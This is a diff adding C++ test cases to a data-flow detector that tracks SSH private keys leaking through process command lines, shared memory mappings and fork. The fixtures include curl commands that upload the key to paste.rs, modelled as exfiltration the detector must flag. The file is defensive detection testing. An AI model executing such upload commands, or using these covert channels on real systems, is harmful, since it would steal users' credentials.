@@ -1,7 +1,8 @@
 // Tests detect/lineage.cpp, the data-flow model: each channel data can take (files by identity,
-// staging chains, pipes, FIFOs, UNIX and loopback sockets, fork, command substitution), what must
-// not join (siblings, background jobs, untainted writers of system files), no deadline, bytes
-// carried, classifications redone on a rules reload, eviction reported, bounded work.
+// staging chains, pipes, FIFOs, UNIX and loopback sockets, shared mappings, fork, command
+// substitution), what must not join (siblings, background jobs, untainted writers of system
+// files), no deadline, bytes carried, classifications redone on a rules reload, eviction
+// reported, bounded work.
 #include <doctest/doctest.h>
 
 #include "timeline.hpp"
@@ -228,6 +229,112 @@ TEST_CASE("another process's environment carries what its owner held at its exec
         after.transfer(reader, "paste.rs", 1300 + 2600, 400);
         CHECK(silent(after) == (kind == ObjectKind::process_environ));
     }
+}
+
+TEST_CASE("another process's command line carries a file's data only where an argument holds its bytes")
+{
+    // `sleep 600 "$(cat key)"` from a shell that read the key; an unrelated process reads the
+    // sleep's /proc/PID/cmdline and uploads it.
+    Timeline tl;
+    auto shell = tl.start_session({"bash", "deploy.sh"});
+    tl.read(shell, key, 2600);
+    auto holder = tl.spawn(shell, {"sleep", "600", "-----BEGIN OPENSSH PRIVATE KEY-----"});
+    tl.argv_scan(holder, key);
+    auto thief = tl.start_session({"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
+    tl.memory_io(thief, holder, IoDirection::read, 2600, ObjectKind::process_cmdline);
+    tl.transfer(thief, "paste.rs", 1300 + 2600, 400);
+    REQUIRE_FALSE(silent(tl));
+    CHECK(tl.alerts[0].reason.find("bash read ~/.ssh/id_ed25519") != std::string::npos);
+
+    // Twin: a command the holder started with nothing of the key in its arguments (ps, top and
+    // monitoring agents read every command line).
+    Timeline plain;
+    auto shell2 = plain.start_session({"bash", "deploy.sh"});
+    plain.read(shell2, key, 2600);
+    auto job = plain.spawn(shell2, {"sleep", "600"});
+    auto agent = plain.start_session({"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
+    plain.memory_io(agent, job, IoDirection::read, 2600, ObjectKind::process_cmdline);
+    plain.transfer(agent, "paste.rs", 1300 + 2600, 400);
+    CHECK(silent(plain));
+}
+
+TEST_CASE("a shared mapping joins its mappers while it lives, whichever side was mapped first")
+{
+    // A System V segment or a file both map before the key is read; the holder copies the key
+    // into its mapping (no syscall), the other side's upload carries it.
+    for (bool reader_first : {true, false}) {
+        Timeline tl;
+        auto holder = tl.start_session({"python3", "holder.py"});
+        auto thief = tl.start_session({"python3", "thief.py"});
+        if (reader_first) tl.map_shared(thief, 777, false);
+        tl.map_shared(holder, 777, true);
+        if (!reader_first) tl.map_shared(thief, 777, false);
+        tl.step(hour_ms);
+        tl.read(holder, key, 2600);
+        tl.transfer(thief, "paste.rs", 1300 + 2600, 400);
+        REQUIRE_FALSE(silent(tl));
+        CHECK(tl.alerts[0].reason.find("python3 read ~/.ssh/id_ed25519") != std::string::npos);
+        CHECK(tl.alerts[0].reason.find("[shared memory: inode 777]") != std::string::npos);
+    }
+    // A write(2) into a file another process maps reaches it; what a mapper writes reaches the
+    // file's later readers.
+    Timeline file;
+    auto mapper = file.start_session({"python3", "watch.py"});
+    file.map_shared(mapper, 4242, false);
+    auto holder = file.start_session({"python3", "stage.py"});
+    file.read(holder, key, 2600);
+    file.open_write(holder, "/tmp/stage.bin", 4242, false);
+    file.wrote(holder, "/tmp/stage.bin", 4242);
+    file.transfer(mapper, "paste.rs", 1300 + 2600, 400);
+    REQUIRE_FALSE(silent(file));
+    Timeline later;
+    auto writer = later.start_session({"python3", "stage.py"});
+    later.map_shared(writer, 4343, true);
+    later.read(writer, key, 2600);
+    auto cat = later.start_session({"curl", "-sk", "--data-binary", "@/tmp/stage.bin", "https://paste.rs/"});
+    later.read(cat, "/tmp/stage.bin", 2600, 4343);
+    later.transfer(cat, "paste.rs", 1300 + 2600, 400);
+    CHECK_FALSE(silent(later));
+
+    // Twins: a read-only mapper of a writer that never held the key; a holder that maps only for
+    // reading (it cannot write there).
+    Timeline ro;
+    auto plain = ro.start_session({"python3", "holder.py"});
+    auto peer = ro.start_session({"python3", "thief.py"});
+    ro.map_shared(plain, 888, true);
+    ro.map_shared(peer, 888, false);
+    auto holder2 = ro.start_session({"python3", "agent.py"});
+    ro.map_shared(holder2, 888, false);
+    ro.read(holder2, key, 2600);
+    ro.transfer(peer, "paste.rs", 1300 + 2600, 400);
+    CHECK(silent(ro));
+}
+
+TEST_CASE("an anonymous shared mapping is shared with the children forked after it, until they exec")
+{
+    // mmap(MAP_SHARED|MAP_ANONYMOUS), fork, then the parent reads the key into the mapping: the
+    // child, forked before the read, sees it.
+    Timeline tl;
+    auto py = tl.spawn(tl.shell, {"python3", "agent.py"}, "/usr/bin/python3.11");
+    tl.map_shared(py, 991, true);
+    auto child = tl.fork(py);
+    tl.read(py, key, 2600);
+    tl.transfer(child, "paste.rs", 1300 + 2600, 400);
+    REQUIRE_FALSE(silent(tl));
+    CHECK(tl.alerts[0].process.entity_id == child.entity_id);
+
+    // Twins: a child forked before the mapping was made, and one that exec'd (a new address
+    // space) before the parent read the key.
+    Timeline before;
+    auto p2 = before.spawn(before.shell, {"python3", "agent.py"}, "/usr/bin/python3.11");
+    auto early = before.fork(p2);
+    before.map_shared(p2, 992, true);
+    auto execd = before.spawn(p2, {"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
+    before.step(hour_ms);
+    before.read(p2, key, 2600);
+    before.transfer(early, "paste.rs", 1300 + 2600, 400);
+    before.transfer(execd, "paste.rs", 1300 + 2600, 400);
+    CHECK(silent(before));
 }
 
 TEST_CASE("UNIX stream, datagram and socketpair channels carry taint, also when the read came first")
